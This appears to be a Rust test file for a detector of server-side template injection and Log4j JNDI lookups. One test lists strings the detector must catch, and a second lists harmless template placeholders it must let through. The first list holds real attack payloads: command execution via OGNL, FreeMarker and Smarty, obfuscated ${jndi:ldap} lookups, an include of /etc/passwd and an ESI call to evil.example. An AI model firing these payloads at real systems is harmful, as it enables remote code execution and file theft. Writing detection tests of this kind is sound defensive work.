use super::*;
use crate::inject::sample;

#[test]
fn what_an_engine_would_compute() {
    for text in [
        "{{7*7}}",
        "${7*7}",
        "<%= 7*7 %>",
        "#{7*7}",
        "{{''.__class__.__mro__}}",
        "{{config.items()}}",
        "${jndi:ldap://x/a}",
        "${${lower:j}ndi:ldap://x/a}",
        "${${::-j}${::-n}${::-d}${::-i}:ldap://x/z}",
        "x ${j${k8s:k5:-nd}i:dns://x}",
        "{%import os%}",
        "{{constructor.constructor('x')()}}",
        "%{(#a=@java.lang.Runtime@getRuntime().exec('id'))}",
        "class.module.classLoader.resources=x",
        "<#assign ex=\"freemarker.template.utility.Execute\"?new()>",
        "{php}echo 1;{/php}",
        "{system('id')}",
        "@(1+2)",
        "{7*7}",
        "~{7*7}",
        "#set($x=7*7)$x",
        "{$smarty.version}",
        "<esi:include src=\"http://evil.example/\"/>",
        "{{ dict.mro() }}",
        "{{config}}",
        "{{7*7",
        "{%print(7*7)%}",
        "{%set x=1%}{{x}}",
        "{% include '/etc/passwd' %}",
        "{{app.request.query.filter(0,0,1024,{'options':'system'})}}",
        "{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,'x')}",
        "{{ .System.Exec \"id\" }}",
        "<#list .data_model?keys as k>${k}</#list>",
        "~{#7*7}",
        "#evaluate(\"x\")",
        "${ctx:loginId}",
        "${base64:JHtqbmRpOmxkYXA6Ly94L2F9}",
        "${facesContext.getExternalContext()}",
        "$\\{jndi:ldap://x/a\\}",
    ] {
        assert!(sample(detect, text), "{text}");
    }
}

#[test]
fn placeholders_and_sets() {
    for text in [
        "Dear {{first_name}}, your order {{ order_id }}",
        "{{ user.email | lower }}",
        "${HOME}/bin",
        "${LOG_LEVEL:-info}",
        "${{ matrix.os }}",
        "{1,2,3} \\ {2}",
        "f(x) = {7 * 7} is a set of one number",
        "${AWS::StackName}-q",
        "{{t \"orders.title\"}}",
        "{{#each items}}{{this.name}}{{/each}}",
        "{% if paid %}Thanks{% endif %}",
        "<%= user.name %>",
        "#{user} wrote",
        "${var.environment}-q",
        "{{> header}}",
        "cost: $${amount}",
        "$49.00 {incl. tax}",
        "Base price is $(100)",
        "a@(b)",
        "{12}",
        "{2026-11}x",
        "#set($name = $user)",
        "{{ config_name }}",
        "{% set title = 'Home' %}{{ user }}",
        "{% include 'partials/footer.html' %}",
        "<#list order.lines?keys as k>${k}</#list>",
        "{{ items | filter: 'active' }}",
        "{% for host in hosts|sort(attribute='name') %}",
        "function f() {\n  return open(process.env.HOME)\n}",
        "${ctx} of Spring",
        "${env:NODE_ENV}",
        "${jndi:...} was the bug in Log4j",
        "{'role': 'system', 'content': 'You help (a lot)'}",
    ] {
        assert!(!sample(detect, text), "{text}");
    }
}
